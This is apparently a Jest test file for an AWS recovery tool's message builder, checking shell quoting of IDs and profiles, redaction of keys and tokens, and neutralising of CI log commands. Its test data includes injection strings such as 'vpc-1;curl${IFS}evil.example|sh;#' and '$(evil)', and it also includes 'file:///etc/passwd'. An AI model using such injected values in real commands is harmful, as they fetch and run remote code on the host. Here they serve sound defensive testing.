import { command, join, Message, nameFrom, say } from '../../../lambda/aws/message';

const ID = 's-1234567890abcdef0';

test('what a message is put together from: our words, numbers, other messages; nothing is said of what is nothing', () => {
  expect(String(say`${1} of ${say`two ${'servers'}`}${''}.`)).toBe('1 of two servers.');
  expect(String(join([undefined, 'One.', '', say`${2}.`]))).toBe('One. 2.');
  expect(String(join(['a', 'b'], ', '))).toBe('a, b');
});

test('the commands of a message are those that were made as commands', () => {
  const typed = command`aws drs describe-jobs --filters jobIDs=${'drsjob-1'} --region ${'eu-central-1'}`;
  const told = join([say`Wait (${typed}).`, '`aws drs delete-source-server`', say`${'`evil`'}`]);
  expect(JSON.stringify(told.commands)).toBe('["aws drs describe-jobs --filters jobIDs=drsjob-1 --region eu-central-1"]');
  expect(String(told)).toBe(
    "Wait (`aws drs describe-jobs --filters jobIDs=drsjob-1 --region eu-central-1`). 'aws drs delete-source-server' 'evil'",
  );
  expect(JSON.stringify({ told })).toBe(JSON.stringify({ told: String(told) }));
});

test.each([
  [ID, ID],
  ['arn', 'arn'],
  ['Role+=,.@-_', 'Role+=,.@-_'],
  ['a'.repeat(255), 'a'.repeat(255)],
  ['a'.repeat(256), "'?'"],
  ['', "'?'"],
  ['-x', "'?'"],
  ['file:///etc/passwd', "'?'"],
  ['vpc-1;curl${IFS}evil.example|sh;#', "'?'"],
  ['vpc-1\n', "'?'"],
  ['vpc 1', "'?'"],
])('the ID %j in a command', (id, typed) => {
  expect(JSON.stringify(command`aws x --id ${id}`.commands)).toBe(JSON.stringify([`aws x --id ${typed}`]));
});

test('many IDs, and one that is unknown', () => {
  expect(String(command`aws x ${['i-1', '; evil', 'i-2']} --id ${undefined}`)).toBe("`aws x i-1 '?' i-2 --id '?'`");
});

test.each([
  ['recovery', 'recovery'],
  ['my profile', "'my profile'"],
  ["it's", `'it'\\''s'`],
  ['$(evil) "x" \\ ü', `'$(evil) "x" \\ ü'`],
  ['a`b', "'?'"],
  ['a\nb', "'?'"],
  ['a\u202eb', "'?'"],
])('any word, such as the profile %j, in a command', (any, typed) => {
  expect(String(command`aws sso login --profile ${{ any }}`)).toBe(`\`aws sso login --profile ${typed}\``);
});

test.each([
  ['letters of any script stay', 'Zürich 東京 مرحبا', 'Zürich 東京 مرحبا'],
  ['an ARN stays', 'arn:aws:iam::111122223333:role/x and arn:aws:s3:::bucket', 'arn:aws:iam::111122223333:role/x and arn:aws:s3:::bucket'],
  ['a resource type stays', 'AWS::CloudFormation::Stack Fn::FindInMap', 'AWS::CloudFormation::Stack Fn::FindInMap'],
  ['control characters', 'a\x1b[2Jb\r\nc\0', 'a [2Jb c '],
  ['format characters, and those of direction', 'a\u202eb\u200bc\ufeffd\u2066', 'a b c d '],
  ['separators of lines and paragraphs', 'a\u2028b\u2029c', 'a b c'],
  ['halves of characters', 'a\ud83db', 'a b'],
  ['orders to Azure Pipelines', '##vso[task.complete]x ##[error]y #[z', '# vso[task.complete]x # [error]y # [z'],
  ['a half of such an order, of which the other half may stand before it', '#vso[task.complete]x', '# vso[task.complete]x'],
  ['the beginning of such an order', '##vso', '#vso'],
  ['a number that is none', 'issue #106, [a]', 'issue #106, [a]'],
  ['orders to GitHub', '::error::x ::set-output name=a::b', ': :error::x : :set-output name=a::b'],
  ['a longer run of colons, which is none', ':::error::x', ':::error::x'],
  ['backticks', '```a`', "'''a'"],
  ['the ID of an access key', 'key ASIAIOSFODNN7EXAMPLE is old', 'key [cut] is old'],
  ['a name that looks a little like one', 'AsiaPacificRecovery', 'AsiaPacificRecovery'],
  ['a token', 'x-amz-security-token:IQoJb3JpZ2lu/x and on', 'x-amz-security-token:[cut] and on'],
  ['a token after a blank', 'x-amz-security-token: IQoJb3JpZ2luX2VjE/x and on', 'x-amz-security-token: [cut] and on'],
  ['a token without a mark before it', 'Bearer IQoJb3JpZ2luX2VjE and on', 'Bearer [cut] and on'],
  ['the signature of a header', 'Authorization: AWS4-HMAC-SHA256 Signature=0123456789abcdef', 'Authorization: [cut] Signature=[cut]'],
  ['a token in a URL', 'X-Amz-Security-Token%3DFwoGZXIvYXdzEJr%2F& and on', 'X-Amz-Security-Token%3D[cut] and on'],
  ['a secret key by words', 'the secret access key wJalrXUtnFEMI/K7MDENG was', 'the secret access key [cut] was'],
  [
    'a secret key',
    'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG secretAccessKey: wJalrXUtnFEMI/K7MDENG',
    'AWS_SECRET_ACCESS_KEY=[cut] secretAccessKey: [cut]',
  ],
  ['a token in JSON with blanks', '{ "sessionToken" : "IQoJb3JpZ2luX2VjE", "a": 1 }', '{ "sessionToken" : "[cut]", "a": 1 }'],
  [
    'the ARN of a secret',
    'the secret arn:aws:secretsmanager:eu-central-1:1:secret:recovery/app-AbCdEf',
    'the secret arn:aws:secretsmanager:eu-central-1:1:secret:recovery/app-AbCdEf',
  ],
  [
    'what AWS says of a token',
    'The security token included in the request is invalid.',
    'The security token included in the request is invalid.',
  ],
  ['a token in JSON', '{"sessionToken":"IQoJb3JpZ2lu","a":1}', '{"sessionToken":"[cut]","a":1}'],
  ['the name of an error that has to do with tokens', 'ExpiredToken: something long', 'ExpiredToken: something long'],
  ['what is as long as a token', `a ${'x'.repeat(257)} b`, 'a [cut] b'],
  ['the value of a tag, which is not', `a ${'x'.repeat(256)} b`, `a ${'x'.repeat(256)} b`],
  ['the path of a role', `arn:aws:iam::111122223333:role/${'x'.repeat(300)}/y`, `arn:aws:iam::111122223333:role/${'x'.repeat(300)}/y`],
  ['a canonical request', "bad signature. The Canonical String for this request should have been 'POST\n/", 'bad signature. [cut]'],
  ['a string to sign', "The String-to-Sign should have been 'AWS4", '[cut]'],
  ['500 bytes stay', 'x '.repeat(250), 'x '.repeat(250)],
  ['more are cut', 'ä '.repeat(200), `${'ä '.repeat(166)}ä…`],
])('what others wrote: %s', (_what, others, told) => {
  expect(String(say`${others}`)).toBe(told);
});

test.each([
  ['app-01.example_com', 'app-01.example_com'],
  ['{{resolve:secretsmanager:x}}', '??resolve?secretsmanager?x??'],
  ['${AWS::Region}', '??AWS??Region?'],
  ['DISCONNECTED\0', 'DISCONNECTED?'],
  ['DIS\u200bCONNECTED', 'DIS?CONNECTED'],
  ['müller', 'm?ller'],
  ['🛟', '?'],
  ['x'.repeat(257), '?cut?'],
  ['x '.repeat(256), 'x?'.repeat(255).slice(0, 255)],
])('the name %j', (others, name) => {
  expect(nameFrom(others)).toBe(name);
});

test('a message is cut in a text, before a command, and nowhere if it fits', () => {
  const told = say`äb${command`aws x`}cd`;
  const cuts = [100, 12, 11, 10, 9, 3, 2, 1, 0, -1].map((bytes) => String(told.cut(bytes)));
  expect(cuts).toEqual(['äb`aws x`cd', 'äb`aws x`cd', 'äb`aws x`c…', 'äb`aws x`…', 'äb…', 'äb…', 'ä…', '…', '…', '…']);
  expect(told.cut(9).commands).toEqual([]);
  expect(told.cut(12)).toBe(told);
  expect(new Message([]).commands).toEqual([]);
});
